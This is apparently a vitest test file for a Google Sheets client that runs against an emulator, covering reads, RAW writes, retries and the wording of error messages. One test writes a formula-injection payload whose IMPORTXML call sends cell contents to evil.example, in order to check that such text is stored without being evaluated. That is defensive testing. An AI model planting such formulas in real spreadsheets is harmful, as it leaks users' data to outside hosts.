// SheetsClient against the emulator: reads and RAW writes, retries that recover, and errors that say what to fix.
import { beforeEach, describe, expect, it } from 'vitest';
import { AuthError, NotFoundError, ServiceError } from '../../../connectors/core/index.ts';
import { useEmulators } from '../../support/msw.ts';
import { ROBOT, sheetsWorld, USER } from './fixture.ts';

const world = sheetsWorld();
const { auth, emulator } = world;
useEmulators(auth.handlers(), emulator.handlers());

let id: string;
beforeEach(() => {
  emulator.faults.clear();
  emulator.requests.clear();
  id = emulator.createSpreadsheet({
    id: '1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEF',
    title: 'Leads',
    tabs: {
      Leads: [
        ['Name', 'Email'],
        ['Ada', 'ada@example.com'],
        ['Grace', 'grace@example.com'],
      ],
    },
  });
});

describe('reading and writing', () => {
  it('reads a range and writes several ranges in one request', async () => {
    const sheets = world.client();
    const read = await sheets.read(id, "'Leads'!A1:B3");
    expect(read.values).toEqual([
      ['Name', 'Email'],
      ['Ada', 'ada@example.com'],
      ['Grace', 'grace@example.com'],
    ]);
    emulator.requests.clear();
    await sheets.writeMany(id, [
      { range: "'Leads'!C2", values: [['Pitched']] },
      { range: "'Leads'!C3", values: [['Skipped']] },
    ]);
    expect(emulator.requests.count()).toBe(1);
    expect(emulator.cell(id, 'Leads', 'C2')).toBe('Pitched');
    expect(emulator.cell(id, 'Leads', 'C3')).toBe('Skipped');
  });

  it('stores text that looks like a formula as text (RAW), so a read returns it unchanged', async () => {
    const sheets = world.client();
    const injected = '=IMPORTXML("https://evil.example/?"&A2,"//a")';
    await sheets.write(id, "'Leads'!C2", [[injected]]);
    await sheets.append(id, "'Leads'!A1", [['=1+2', 'x@example.com']]);
    const read = await sheets.read(id, "'Leads'!A2:C4");
    expect(read.values).toEqual([
      ['Ada', 'ada@example.com', injected],
      ['Grace', 'grace@example.com'],
      ['=1+2', 'x@example.com'],
    ]);
  });

  it('adds missing header columns after the last one, widening a full grid', async () => {
    const narrow = emulator.createSpreadsheet({
      tabs: { Leads: [['Name', 'Email']] },
      gridSize: { columns: 2 },
    });
    const sheets = world.client();
    const header = await sheets.ensureHeaders(narrow, 'Leads', ['email', 'Status', 'Baton Run']);
    expect(header).toEqual(['Name', 'Email', 'Status', 'Baton Run']);
    expect(emulator.rows(narrow, 'Leads')[0]).toEqual(['Name', 'Email', 'Status', 'Baton Run']);
    expect(emulator.gridSize(narrow, 'Leads').columns).toBe(4);
    emulator.requests.clear();
    await sheets.ensureHeaders(narrow, 'Leads', ['Status']);
    expect(emulator.requests.count()).toBe(1); // only the header read: nothing to add
  });
});

describe('retries', () => {
  it('recovers from two 429s, each retry counted once (the SDK does not retry on its own)', async () => {
    emulator.faults.failNext(2, 429);
    const sheets = world.client();
    const read = await sheets.read(id, "'Leads'!A2");
    expect(read.values).toEqual([['Ada']]);
    expect(emulator.requests.filter({ path: /values/ }).map((r) => r.status)).toEqual([429, 429, 200]);
    expect(sheets.policy.stats.rateLimited).toBe(2);
  });

  it('recovers from 5xx answers and dropped connections, for writes too', async () => {
    const sheets = world.client();
    emulator.faults.failNext(1, 500).failNext(1, 503);
    await sheets.write(id, "'Leads'!C2", [['ok']]);
    emulator.faults.dropNext(1);
    await sheets.writeMany(id, [{ range: "'Leads'!C3", values: [['ok too']] }]);
    expect(emulator.cell(id, 'Leads', 'C2')).toBe('ok');
    expect(emulator.cell(id, 'Leads', 'C3')).toBe('ok too');
    expect(emulator.requests.filter({ path: /values/ }).map((r) => r.status)).toEqual([
      500, 503, 200, 0, 200,
    ]);
  });

  it('gives up after maxAttempts with a retryable ServiceError', async () => {
    emulator.faults.failNext(10, 503);
    const err = await world
      .client()
      .read(id, "'Leads'!A1")
      .catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ServiceError);
    expect(err).toMatchObject({ retryable: true, status: 503 });
    expect(emulator.requests.filter({ path: /values/ })).toHaveLength(4);
  });
});

describe('errors that say what to fix', () => {
  it('an unknown spreadsheet names the setting to check', async () => {
    const err = await world
      .client()
      .read('1ZzNotAReal_SheetIdAtAll', "'Leads'!A1")
      .catch((e: unknown) => e);
    expect(err).toBeInstanceOf(NotFoundError);
    expect((err as Error).message).toBe('Spreadsheet 1ZzNot… not found — check PITCH_SHEET_ID');
    expect(emulator.requests.count()).toBe(1); // not retried
  });

  it('an unknown tab names the tab setting', async () => {
    const err = await world
      .client()
      .read(id, "'Prospects'!A1:B2")
      .catch((e: unknown) => e);
    expect(err).toBeInstanceOf(NotFoundError);
    expect((err as Error).message).toBe(
      "Sheet tab 'Prospects' not found in spreadsheet 1AbCdE… — check PITCH_SHEET_TAB",
    );
    const viaMetadata = await world
      .client()
      .tab(id, 'Prospects')
      .catch((e: unknown) => e);
    expect((viaMetadata as Error).message).toBe((err as Error).message);
  });

  it('revoked credentials ask to sign in again', async () => {
    const sheets = world.client();
    await sheets.read(id, "'Leads'!A1");
    auth.revoke(USER);
    // The access token's 401 gets one refresh, which Google refuses: that refusal is the message.
    const err = await sheets.read(id, "'Leads'!A1").catch((e: unknown) => e);
    expect(err).toBeInstanceOf(AuthError);
    expect((err as Error).message).toMatch(
      /^Google refused GOOGLE_REFRESH_TOKEN \(invalid_grant: Token has been expired or revoked\.\) — run `baton auth google`/,
    );
    expect((err as Error).message).not.toMatch(/ya29|refresh-1|secret-1/);
    auth.registerRefreshToken({
      clientId: 'client-1',
      clientSecret: 'secret-1',
      refreshToken: 'refresh-1',
      email: USER,
    });
  });

  it('a sheet not shared with the service account says whom to share it with', async () => {
    const secret = emulator.createSpreadsheet({ tabs: { Leads: [['Name']] }, sharedWith: [USER] });
    const err = await world
      .robotClient()
      .read(secret, "'Leads'!A1")
      .catch((e: unknown) => e);
    expect(err).toBeInstanceOf(AuthError);
    expect((err as Error).message).toMatch(
      new RegExp(`— share the sheet with ${ROBOT.replaceAll('.', '\\.')}$`),
    );
    emulator.share(secret, ROBOT);
    expect((await world.robotClient().read(secret, "'Leads'!A1")).values).toEqual([['Name']]);
  });
});
